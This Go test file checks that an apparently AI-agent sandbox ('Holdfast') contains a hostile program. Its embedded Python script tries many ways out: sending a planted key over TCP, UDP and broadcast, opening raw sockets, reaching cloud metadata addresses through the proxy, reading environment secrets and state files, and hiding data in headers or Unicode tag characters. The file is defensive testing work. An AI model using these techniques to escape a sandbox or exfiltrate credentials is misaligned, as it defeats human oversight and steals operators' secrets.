package main

import (
	"encoding/base64"
	"encoding/pem"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
)

// thief listens on every address of the machine outside of a run, and keeps
// what reaches it.
type thief struct {
	port string
	name string // of its abstract socket, without the leading sign

	mu  sync.Mutex
	got []string // guarded by mu
}

func (t *thief) keep(how string, c net.Conn) {
	defer c.Close()
	b := make([]byte, 512)
	n, _ := c.Read(b)
	t.mu.Lock()
	defer t.mu.Unlock()
	t.got = append(t.got, fmt.Sprintf("%s: %q", how, b[:n]))
}

func newThief(t *testing.T) *thief {
	t.Helper()
	f := &thief{}
	accept := func(how string, l net.Listener) {
		t.Cleanup(func() { l.Close() })
		go func() {
			for {
				c, err := l.Accept()
				if err != nil {
					return
				}
				go f.keep(how, c)
			}
		}()
	}
	tcp, err := net.Listen("tcp", ":0")
	if err != nil {
		t.Fatal(err)
	}
	_, f.port, _ = net.SplitHostPort(tcp.Addr().String())
	accept("TCP", tcp)
	f.name = "holdfast-thief-" + f.port
	abstract, err := net.Listen("unix", "@"+f.name)
	if err != nil {
		t.Fatal(err)
	}
	accept("an abstract socket", abstract)
	udp, err := net.ListenPacket("udp", ":"+f.port)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { udp.Close() })
	go func() {
		b := make([]byte, 512)
		for {
			n, from, err := udp.ReadFrom(b)
			if err != nil {
				return
			}
			f.mu.Lock()
			f.got = append(f.got, fmt.Sprintf("UDP from %s: %q", from, b[:n]))
			f.mu.Unlock()
		}
	}()
	return f
}

// outward is an address of this machine that is not loopback, if it has one.
func outward(t *testing.T) string {
	t.Helper()
	all, err := net.InterfaceAddrs()
	if err != nil {
		t.Fatal(err)
	}
	for _, a := range all {
		if n, ok := a.(*net.IPNet); ok && n.IP.To4() != nil && !n.IP.IsLoopback() {
			return n.IP.String()
		}
	}
	return "192.0.2.1"
}

// insideProgram tries one way out after the other and says of each what became of
// it. What it holds is in the tree: a secret of a known form.
const insideProgram = `
import errno, os, socket, ssl, sys, threading
port, thief, upstream, name, state = int(sys.argv[1]), sys.argv[2], int(sys.argv[3]), sys.argv[4], open('state').read()
secret = open('secret').read().strip().encode()
def tries(what, f):
    try: r = f()
    except OSError as e: r = errno.errorcode.get(e.errno, type(e).__name__)
    print(what, '=>', r, flush=True)
def first(s, data=b''):
    s.settimeout(5)
    if data: s.sendall(data)
    r = b''
    try:
        while b'\r\n' not in r:
            d = s.recv(200)
            if not d: break
            r += d
    except OSError: return 'SILENT'
    return r.split(b'\r\n')[0].decode('latin1') or 'CLOSED'
ask = b'GET /' + secret + b' HTTP/1.1\r\nHost: thief.test\r\n\r\n'
tries('TCP', lambda: first(socket.create_connection((thief, port)), ask))
def fast():
    s = socket.socket(); s.sendto(ask, 0x20000000, (thief, port)); return first(s)
tries('TCP fast open', fast)
def urgent():
    s = socket.create_connection((thief, port)); s.send(secret, socket.MSG_OOB); return first(s, b'\r\n\r\n')
tries('urgent data', urgent)
def udp(*a):
    s = socket.socket(type=socket.SOCK_DGRAM); s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1); s.sendto(secret, a); return 'SENT'
tries('UDP', lambda: udp(thief, port)); tries('broadcast', lambda: udp('255.255.255.255', port)); tries('multicast', lambda: udp('224.0.0.251', port))
for what, family, kind, proto in [('MPTCP',2,1,262),('SCTP',2,1,132),('raw',2,3,6),('packet',17,3,768),('ping',2,2,1),('netfilter',16,3,12),('audit',16,3,9),('TIPC',30,2,0),('SMC',43,1,0),('Bluetooth',31,3,0)]:
    tries('family ' + what, lambda: ('OPENED', socket.socket(family, kind, proto))[0])
for what, level, option in [('transparent',0,19),('mark',1,36),('repair',6,19)]:
    tries('option ' + what, lambda: (socket.socket().setsockopt(level, option, 1), 'SET')[1])
def binds(a, *options):
    s = socket.socket()
    for o in options: s.setsockopt(socket.SOL_SOCKET, o, 1)
    s.bind(a); s.listen(); return 'BOUND'
tries('the port of the proxy', lambda: binds(('127.0.0.1', 7412), socket.SO_REUSEADDR, socket.SO_REUSEPORT))
tries('every address at that port', lambda: binds(('0.0.0.0', 7412), socket.SO_REUSEADDR, socket.SO_REUSEPORT))
def shadow():
    l = socket.socket(); l.bind(('0.0.0.0', upstream)); l.listen(); l.settimeout(1)
    s = socket.create_connection(('198.18.0.1', upstream))
    try: l.accept(); return 'TAKEN'
    except TimeoutError: return 'NOT TAKEN'
tries('a listener for what others send out', shadow)
tries('abstract socket', lambda: socket.socket(socket.AF_UNIX).connect('\0' + name))
for path in ['/sock', '/egress-ca-key.pem', '/token.key', '/holdfast.db']:
    tries('state' + path, lambda: (os.stat(state + path), 'SEEN')[1])
    for root in ['/proc/1/root', '/proc/self/root/..', '/proc/self/cwd/..']: tries('state' + path + ' by ' + root, lambda: (os.stat(root + state + path), 'SEEN')[1])
tries('environment', lambda: [k for k in os.environ if 'SECRET' in k or 'TOKEN' in k])
tries('descriptors', lambda: [os.readlink('/proc/self/fd/%d' % i).split(':')[0] for i in range(256) if os.path.exists('/proc/self/fd/%d' % i) and i > 2])
def proxy(target, host):
    return first(socket.create_connection(('127.0.0.1', 7412)), ('GET ' + target + ' HTTP/1.1\r\nHost: ' + host + '\r\n\r\n').encode())
for host in ['127.0.0.1:%d' % port, thief + ':%d' % port, '[::1]:%d' % port, '169.254.169.254', 'metadata.google.internal', 'localhost:%d' % port, '[::ffff:127.0.0.1]:%d' % port, '2130706433:%d' % port]:
    tries('proxy to ' + host, lambda: proxy('http://' + host + '/', host))
for host in ['169.254.169.254', '10.0.0.1', '100.100.100.200']:
    tries('connect to ' + host, lambda: first(socket.create_connection((host, 80)), b'GET / HTTP/1.1\r\nHost: ' + host.encode() + b'\r\n\r\n'))
context = ssl.create_default_context(cafile='/etc/holdfast.crt')
def echo(what, head, body=b''):
    s = context.wrap_socket(socket.create_connection(('api.example.com', upstream)), server_hostname='api.example.com'); s.settimeout(10)
    s.sendall(('POST /echo HTTP/1.1\r\nHost: api.example.com:%d\r\nConnection: close\r\n' % upstream).encode() + head + b'Content-Length: %d\r\n\r\n' % len(body) + body)
    r = b''
    while True:
        d = s.recv(4096)
        if not d: break
        r += d
    print(what, '=>', r.split(b'\r\n')[0].decode(), flush=True); open('answers', 'ab').write(r)
echo('ordinary words', b'', b'ordinary words')
echo('body', b'', secret)
echo('header', b'X-A: ' + secret + b'\r\n')
echo('own account', b'Authorization: Bearer of-the-agent-itself\r\n')
echo('tags', b'Content-Type: text/plain; charset=utf-8\r\n', ''.join(chr(0xe0000 + c) for c in secret).encode())
`

// TestAttackInside_ARunFindsNoWayOut: a hostile program in a run tries to get what
// it reads to another process of this machine, to a host that is not listed and to
// one that is, and to read what is Holdfast's.
func TestAttackInside_ARunFindsNoWayOut(t *testing.T) {
	t.Parallel()
	const secret, password = "AKIA4QJXZ2MNRT7WPLVY", "pass-Word-of-the-tenant-81"
	var mu sync.Mutex
	var reached strings.Builder
	up := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := httputil.DumpRequest(r, true)
		mu.Lock()
		reached.Write(b)
		mu.Unlock()
		pair := strings.TrimPrefix(r.Header.Get("Authorization"), "Basic ")
		plain, _ := base64.StdEncoding.DecodeString(pair)
		_, word, _ := strings.Cut(string(plain), ":")
		fmt.Fprintf(w, "%s\n%s\nwrong password: %s\n", b, plain, word)
	}))
	t.Cleanup(up.Close)
	_, port, _ := net.SplitHostPort(up.Listener.Addr().String())
	s := newSite(t, "version: 1\nlisten: {pages: none}\nboundaries:\n  - {boundary: run/*, risk: LOW, "+hostedWalls+"}\negress:\n  domains:\n"+
		"    'api.example.com:"+port+"': {addresses: [127.0.0.1], roots: roots.pem, credential: {header: Authorization, prefix: 'Basic ', file: pair}}\n")
	s.write("roots.pem", string(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: up.Certificate().Raw})))
	s.write("pair", base64.StdEncoding.EncodeToString([]byte("robot:"+password)))
	tree := filepath.Join(s.dir, "tree")
	if err := os.Mkdir(tree, 0o755); err != nil {
		t.Fatal(err)
	}
	for name, text := range map[string]string{"secret": secret, "inside.py": insideProgram, "state": filepath.Join(s.dir, "s")} {
		if err := os.WriteFile(filepath.Join(tree, name), []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	s.start("up", "up", "--no-operator")
	s.after("up", "listening")
	f := newThief(t)
	cmd := s.command("run", "--dir", tree, "--timeout", "100s", "--", "/usr/bin/python3", "inside.py", f.port, outward(t), port, f.name)
	cmd.Env = append(cmd.Env, "SOME_SECRET="+secret)
	b, err := cmd.CombinedOutput()
	if _, ended := err.(*exec.ExitError); err != nil && !ended {
		t.Fatal(err)
	}
	out := string(b)
	if err != nil || !strings.Contains(out, "ordinary words => HTTP/1.1 200 OK") || !strings.Contains(out, "tags => ") {
		t.Fatalf("it did not get to its end: %v\n%s", err, out)
	}
	for _, line := range strings.Split(out, "\n") {
		what, became, _ := strings.Cut(line, " => ")
		if bad := became == "OPENED" || became == "SET" || became == "BOUND" || became == "TAKEN" || became == "SEEN" || became == "None"; bad ||
			(strings.HasPrefix(what, "proxy to") || strings.HasPrefix(what, "connect to") || what == "TCP" || what == "TCP fast open") && strings.Contains(became, " 200") ||
			(what == "environment" || what == "descriptors") && became != "[]" {
			t.Errorf("%s: %s", what, became)
		}
	}
	f.mu.Lock()
	for _, got := range f.got {
		t.Errorf("outside of the run arrived by %s", got)
	}
	f.mu.Unlock()
	answers, err := os.ReadFile(filepath.Join(tree, "answers"))
	if err != nil {
		t.Fatal(err)
	}
	mu.Lock()
	defer mu.Unlock()
	for _, word := range []string{secret, "of-the-agent-itself", "\U000e0041"} {
		if strings.Contains(reached.String(), word) {
			t.Errorf("%q reached the host that is allowed", word)
		}
	}
	if !strings.Contains(reached.String(), "ordinary words") || !strings.Contains(string(answers), "wrong password: ") {
		t.Error("nothing passed at all: this test sees nothing")
	}
	for _, word := range []string{password, "robot:", base64.StdEncoding.EncodeToString([]byte("robot:" + password))} {
		if strings.Contains(string(answers), word) {
			t.Errorf("the agent reads %q", word)
		}
	}
}
